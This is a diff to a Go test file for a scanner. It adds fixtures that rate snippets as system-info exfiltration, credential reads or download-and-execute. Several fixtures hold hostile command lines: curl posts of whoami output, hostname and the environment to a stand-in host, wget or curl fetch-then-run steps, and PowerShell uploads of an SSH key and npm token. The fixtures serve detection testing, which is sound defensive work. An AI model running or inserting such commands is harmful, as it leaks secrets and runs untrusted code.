@@ -77,6 +77,14 @@ func TestRecallClasses(t *testing.T) {
 		{"powershell user and computer posted", map[string]string{"tools/x.ps1": "$u = $env:USERNAME\n$c = $env:COMPUTERNAME\nInvoke-RestMethod -Uri $x -Method Post -Body @{u=$u; c=$c}\n"}, "sysinfo-exfil", record.Medium, 0},
 		{"powershell ssh key uploaded", map[string]string{"tools/x.ps1": "$k = Get-Content \"$HOME\\.ssh\\id_rsa\" -Raw\nInvoke-WebRequest -Uri $x -Method Post -Body $k\n"}, "credential-read", record.Medium, 0},
 		{"powershell registry token as a header", map[string]string{"tools/x.ps1": "$t = (Get-Content \"$HOME\\.npmrc\") -replace '.*=', ''\nInvoke-RestMethod -Uri $x -Headers @{Authorization = \"Bearer $t\"}\n"}, "credential-read", quiet, record.Low},
+		// commands that send identity, or save a download a shell runs
+		{"python command uploads whoami's output", map[string]string{"acme/x.py": "import os\nos.popen(\"whoami > /tmp/.u; curl -F f=@/tmp/.u http://example.invalid/u\")\n"}, "sysinfo-exfil", record.Medium, 0},
+		{"shell host name in a curl URL", map[string]string{"tools/x.sh": "#!/bin/sh\ncurl -s \"https://example.invalid/p?h=$(hostname)&u=$(whoami)\"\n"}, "sysinfo-exfil", record.Medium, 0},
+		{"shell environment piped to curl", map[string]string{"tools/x.sh": "#!/bin/sh\nenv | curl -s -d @- https://example.invalid/e\n"}, "sysinfo-exfil", record.Medium, 0},
+		{"shell uploads a coverage report", map[string]string{"tools/ci.sh": "#!/bin/sh\ncurl -s -F \"file=@coverage.xml\" \"https://codecov.example/upload?build=$BUILD\"\necho \"built on $(hostname)\" > build-info.txt\n"}, "sysinfo-exfil", quiet, record.Low},
+		{"python argument lists download then run", map[string]string{"acme/x.py": "import subprocess as sp\nsp.Popen([\"curl\",\"-s\",\"http://example.invalid/s\",\"-o\",\"/tmp/s\"]); sp.call([\"sh\",\"/tmp/s\"])\n"}, "download-exec", record.Medium, 0},
+		{"shell saves a script and runs it", map[string]string{"tools/x.sh": "#!/bin/sh\nwget -q -O /tmp/i.sh http://example.invalid/i.sh && bash /tmp/i.sh\n"}, "download-exec", record.Medium, 0},
+		{"shell downloads and unpacks an archive", map[string]string{"tools/x.sh": "#!/bin/sh\ncurl -fsSL -o node.tar.gz \"$URL\" && tar xzf node.tar.gz && rm node.tar.gz\n"}, "download-exec", quiet, record.Low},
 		{"js telemetry tags the host", map[string]string{"lib/x.js": "const os = require('os');\nconst me = os.userInfo().username;\nconst cache = path.join(os.tmpdir(), me);\nconst tags = { host: os.hostname(), platform: os.platform() };\nfetch(u, { method: 'POST', body: JSON.stringify({ tags, values }) });\n"}, "sysinfo-exfil", quiet, record.Low},
 	}
 	rs := DefaultRules()
